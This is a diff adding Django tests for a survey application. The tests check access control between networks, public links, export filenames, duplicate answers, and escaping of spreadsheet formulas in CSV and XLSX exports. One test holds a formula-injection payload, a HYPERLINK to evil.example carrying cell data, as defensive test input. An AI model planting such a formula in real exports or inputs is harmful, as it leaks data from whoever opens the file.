@@ -1,0 +1,65 @@
+"""What a coordinator of another network, a visitor with a link, or odd input must not get from a survey."""
+
+import csv
+import io
+
+import openpyxl
+from django.urls import reverse
+from model_bakery import baker
+
+from erasmi.networks.tests.factories import make_network
+from erasmi.surveys.models import Question, Response
+from erasmi.surveys.tests.factories import make_members, make_survey, scale_survey
+
+
+def test_a_coordinator_of_another_network_reaches_none_of_a_surveys_pages(client, erfurt_network):
+    survey = scale_survey(erfurt_network)
+    stranger = baker.make("accounts.User", email="halle-coordinator@example.org")
+    make_network("halle", stranger)
+    client.force_login(stranger)
+    for name in ("detail", "edit", "results", "results_csv", "results_xlsx", "answer", "compare"):
+        assert client.get(reverse(f"surveys:{name}", args=["erfurt", survey.pk])).status_code == 404, name
+        assert client.get(reverse(f"surveys:{name}", args=["halle", survey.pk])).status_code == 404, name
+    assert client.post(reverse("surveys:wave", args=["erfurt", survey.pk])).status_code == 404
+    assert client.get(reverse("surveys:profile", args=["erfurt"])).status_code == 404
+
+
+def test_the_public_link_of_a_members_survey_opens_nothing(client, erfurt_network):
+    survey = scale_survey(erfurt_network)
+    assert client.get(reverse("surveys_public:public", args=[survey.token])).status_code == 404
+
+
+def test_the_export_of_a_survey_titled_with_slashes_and_brackets_opens(client, erfurt_network, coordinator):
+    survey = make_survey(erfurt_network, [(Question.Kind.TEXT, "Tell us")], title="Bilanz 1/2026: [Teil A]?")
+    client.force_login(coordinator)
+    response = client.get(reverse("surveys:results_xlsx", args=["erfurt", survey.pk]))
+    assert response.status_code == 200
+    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
+    assert sheet.title and "/" not in sheet.title
+
+
+def test_a_formula_typed_as_an_answer_stays_text_in_the_exports(client, erfurt_network, coordinator):
+    survey = make_survey(erfurt_network, [(Question.Kind.TEXT, "Tell us")])
+    (person,) = make_members(erfurt_network, 1)
+    client.force_login(person.user)
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    client.post(reverse("surveys:answer", args=["erfurt", survey.pk]), {f"q{survey.questions.get().pk}": formula})
+    assert Response.objects.count() == 1
+    client.force_login(coordinator)
+    text = client.get(reverse("surveys:results_csv", args=["erfurt", survey.pk]) + "?format=plain").content
+    cells = [cell for row in csv.reader(io.StringIO(text.decode("utf-8-sig"))) for cell in row]
+    assert formula not in cells and any(cell.endswith(formula) for cell in cells)
+    workbook = client.get(reverse("surveys:results_xlsx", args=["erfurt", survey.pk])).content
+    values = [c.value for row in openpyxl.load_workbook(io.BytesIO(workbook)).active.iter_rows() for c in row]
+    assert formula not in values
+
+
+def test_answering_twice_stores_one_response(client, erfurt_network):
+    survey = scale_survey(erfurt_network)
+    (person,) = make_members(erfurt_network, 1)
+    client.force_login(person.user)
+    path = reverse("surveys:answer", args=["erfurt", survey.pk])
+    field = f"q{survey.questions.get().pk}"
+    client.post(path, {field: "4"})
+    client.post(path, {field: "1"})
+    assert Response.objects.count() == 1
